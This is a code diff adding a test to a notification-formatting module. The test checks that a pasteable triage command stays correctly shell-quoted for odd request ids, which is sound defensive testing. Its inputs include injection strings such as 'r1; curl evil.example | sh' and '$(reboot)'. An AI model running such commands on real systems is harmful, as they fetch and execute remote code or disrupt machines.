@@ -1,5 +1,6 @@
 """Grouping and the text of notifications."""
 
+import shlex
 import unicodedata
 from dataclasses import replace
 from datetime import timedelta
@@ -107,6 +108,13 @@ def test_all_refused_rules_make_one_group():
     policy = AlertPolicy(group_by=("fingerprint",))
     edits = [Problem("a.yaml", 1, 1, "one"), Problem("b.yaml", 0, 0, "two")]
     assert len({rules_alert([problem], policy=policy).group.key for problem in edits}) == 1
+
+
+def test_the_command_to_look_can_be_pasted_whatever_the_request_id_is():
+    for request_id in ("1-670648a1", "r1; curl evil.example | sh", "$(reboot)", "r'1", "x" * 256):
+        sample = replace(SAMPLE, request_id=request_id)
+        command = body(view(samples=(sample,))).splitlines()[-1]
+        assert shlex.split(command, comments=True) == ["Look:", "triage", "failures", "show", request_id]
 
 
 @given(st.text(), st.integers(1, 50))
